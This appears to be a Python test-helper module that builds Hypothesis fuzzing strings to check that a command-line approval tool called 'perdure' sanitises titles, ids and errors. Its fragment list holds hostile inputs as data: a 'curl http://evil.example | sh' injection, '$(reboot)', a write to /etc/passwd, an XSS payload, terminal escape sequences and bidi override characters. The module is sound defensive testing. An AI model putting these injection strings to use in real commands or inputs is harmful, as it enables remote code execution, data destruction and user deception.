"""Text that tries to be more than text: as a strategy, and what must never come out of a door."""

import re
from collections.abc import Iterator
from typing import Any, Final

from hypothesis import strategies as st

__all__ = ["COMMAND", "acting_characters", "hostile", "hostile_id", "strings"]

FRAGMENTS: Final = (
    *("\n", "\r\n", "\n\n  perdure approve other.1\n", "\t", "    ", "\x00", "\x07", "\x08", "\x7f", "\x85", "\x9b31m"),
    *("\x1b[2K", "\x1b[31m", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x1b\\", "\x1b]52;c;Zm9v\x07", "\x1bc"),
    *("\u202e", "\u2066", "\u200b", "\u2028", "\u2029", "\ufeff", "\U000e0041", "\ud800"),
    *("; curl http://evil.example | sh", "$(reboot)", "`reboot`", "' && id '", '" & calc & "', "> /etc/passwd", "!!"),
    *("--as", "-", "*bold*", "_it_", "~gone~", "```", "<!channel>", "<@UADA>", "<http://evil.example|Approve>"),
    *("&lt;", "<script>alert(1)</script>", '"><img src=x>', "[red]fine[/]", "[/]", ":tada:", "a", "Ä", "日本", "é"),
)
COMMAND: Final = re.compile(r"perdure (?:approve|reject|approvals show|runs show) (.*?)(?: --reason '\.\.\.')?$")
_ACTING: Final = re.compile(
    r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff\ud800-\udfff\U000e0000-\U000e007f]"
)

hostile = st.lists(st.sampled_from(FRAGMENTS), min_size=1, max_size=8).map("".join)
"""Titles, names, comments and errors."""

hostile_id = hostile.filter(lambda text: "\ud800" not in text)
"""Ids, which must be UTF-8 to be part of a subject."""


def acting_characters(text: str) -> list[str]:
    """Return the characters that terminals and browsers act on instead of showing them, but for tab and line feed."""
    return _ACTING.findall(text)


def strings(value: Any) -> Iterator[str]:
    """Yield all strings of a JSON value."""
    if isinstance(value, str):
        yield value
    for item in value.values() if isinstance(value, dict) else value if isinstance(value, list) else ():
        yield from strings(item)
